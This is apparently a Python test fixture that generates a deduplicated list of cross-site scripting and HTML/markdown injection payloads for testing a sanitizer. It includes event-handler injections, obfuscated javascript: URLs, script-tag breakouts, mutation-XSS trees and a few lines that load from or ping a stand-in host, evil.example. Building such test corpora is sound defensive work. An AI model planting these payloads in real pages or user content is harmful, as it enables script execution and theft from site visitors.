"""Texts that try to make a reader's browser run, load, submit or overwrite something. Made for our own tests.

Most are made of parts: what runs, how it is started, and how it is disguised.
"""

from itertools import product

_RUN = "alert(1)"
_ELEMENTS = (
    "img src=x {on}", "img/src=x/{on}", "svg {on}", "svg/{on}/", "body {on}", "input autofocus {on}",
    "video src=x {on}", "audio src=x {on}", "details open {on}", "select autofocus {on}", "textarea autofocus {on}",
    "marquee {on}", "button {on}", "object data=x {on}", "iframe src=x {on}", "a href=# {on}", "p {on}", "td {on}",
    "li {on}", "table {on}", "h1 {on}", "code {on}", "blockquote {on}", "x-own {on}", "math {on}", "isindex {on}",
    "form {on}", "style {on}", "link rel=stylesheet href=x {on}", "div style=animation-name:x {on}",
)  # fmt: skip
_HANDLERS = ("onload=", "onerror=", "ONFOCUS = ", "onmouseover\t=\n", "ontoggle='", 'onanimationstart="')
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java&#09;script:alert(1)", "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "j&Tab;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>1</script>",
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://x/y",
    "file:///etc/passwd", "ftp://evil.example/x", "about:blank", "view-source:https://x", "javascript://x%0Aalert(1)",
    "livescript:alert(1)", "mocha:alert(1)", "//evil.example/x", "/inbox?delete=all", "?x", "jar:https://x!/y",
    "feed:javascript:alert(1)", "tel:+4790000000", "intent://x#Intent;end", "ms-settings:x", "x:y",
    "\u3000javascript:alert(1)", "\u200bjavascript:alert(1)", "javascript\u200b:alert(1)", "ｊavascript:alert(1)",
    "javaſcript:alert(1)", "javascript\\:alert(1)", "javascript%3Aalert(1)",
)  # fmt: skip
_CARRIERS = (
    "<a href='{url}'>x</a>", '<a href="{url}">x</a>', "<img src='{url}'>", "[x]({url})", "[x](<{url}>)", "![x]({url})",
    "[x][1]\n\n[1]: {url}", "<{url}>", "<iframe src='{url}'></iframe>", "<form action='{url}'><input type=submit>",
    "<svg><a xlink:href='{url}'><text>x</text></a></svg>", "<button formaction='{url}'>x</button>",
    "<base href='{url}'>", "<meta http-equiv=refresh content='0;url={url}'>", "<object data='{url}'></object>",
)  # fmt: skip
_SCRIPTS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script src=//evil.example></script>", "<script/x>{run}",
    "<scr<script>ipt>{run}</scr</script>ipt>", "<<script>{run}//<</script>", "<script\n>{run}</script\n>",
    "</title><script>{run}</script>", "</textarea><script>{run}</script>", "</style><script>{run}</script>",
    "--><script>{run}</script>", "<!--<script>{run}</script>-->", "<!--><script>{run}</script>-->",
    "<!--[if IE]><script>{run}</script><![endif]-->", "<![CDATA[<script>{run}</script>]]>", "<?xml?><script>{run}",
    "]]><script>{run}</script>", "`<script>{run}</script>`", "``<script>{run}</script>`", "\\<script>{run}</script>",
    "```\n</code></pre><script>{run}</script>\n```", "~~~<script>\n{run}\n~~~", "    <script>{run}</script>",
    "> <script>{run}</script>", "- <script>{run}</script>", "|<script>{run}</script>|\n|-|\n|x|", "# <script>{run}",
    "&lt;script&gt;{run}&lt;/script&gt;", "&amp;lt;script&amp;gt;{run}", "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E", "＜script＞{run}＜/script＞", "<\x00script>{run}</script>", "<script\x0b>{run}",
    "[<script>{run}</script>](https://x.example)", "![<script>{run}</script>](https://x.example/y.png)",
    "[x](https://x.example '\"><script>{run}</script>')", "<https://x.example/\"><script>{run}</script>>",
    "[x]: https://x.example \"'><script>{run}</script>\"\n\n[x]", "<a title='</a><script>{run}</script>'>x</a>",
)  # fmt: skip
_TREES = (
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<math><mi><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={run}></style>",
    "<table><td><svg><desc><table><td></desc><img src=x onerror={run}>",
    "<select><noembed></select><script x='{run}'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<plaintext><script>{run}",
    "<listing>&lt;img src=x onerror={run}>",
    "<svg><set attributeName=href to=javascript:{run}>",
    "<svg><animate onbegin={run} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/>",
    "<frameset onload={run}>",
    "<embed src=x onload={run}>",
    "<style>@import 'https://evil.example';</style>",
    "<style>*{{background:url(javascript:{run})}}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style='width:expression({run})'>x</p>",
    "<link rel=import href=https://evil.example>",
    "<meta charset=utf-7>+ADw-script+AD4-{run}",
    "<keygen autofocus onfocus={run}>",
    "<p id=cookie name=body class=admin>x</p>",
    "<img name=getElementById src=https://x.example>",
    "<a ping=https://evil.example href=https://x.example>x</a>",
    "<a target=_blank href=https://x.example>x</a>",
    "<img srcset='x, https://evil.example 2x'>",
    "<img src=https://x.example onerror={run} alt='\"><script>{run}</script>'>",
    "<dialog open><form method=dialog>{run}",
    "<input type=image src=x onerror={run}>",
    "<video><source onerror={run}></video>",
    "<picture><source srcset=x onerror={run}>",
    "<portal src=https://evil.example>",
    "<applet code=x>",
    "<layer src=x>",
    "<bgsound src=javascript:{run}>",
    "<area href=x>",
    "<image src=x onerror={run}>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "<slot onslotchange={run}>",
)


def _quoted(handler: str) -> str:
    """The handler with what it runs, its quotes closed."""
    return f"{handler}{_RUN}{handler[-1] if handler[-1] in chr(34) + chr(39) else ''}"


HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(f"<{element.format(on=_quoted(on))}>" for element, on in product(_ELEMENTS, _HANDLERS)),
            *(carrier.format(url=url) for carrier, url in product(_CARRIERS, _ADDRESSES)),
            *(text.format(run=_RUN) for text in (*_SCRIPTS, *_TREES)),
        ]
    )
)
"""All of them, each once."""
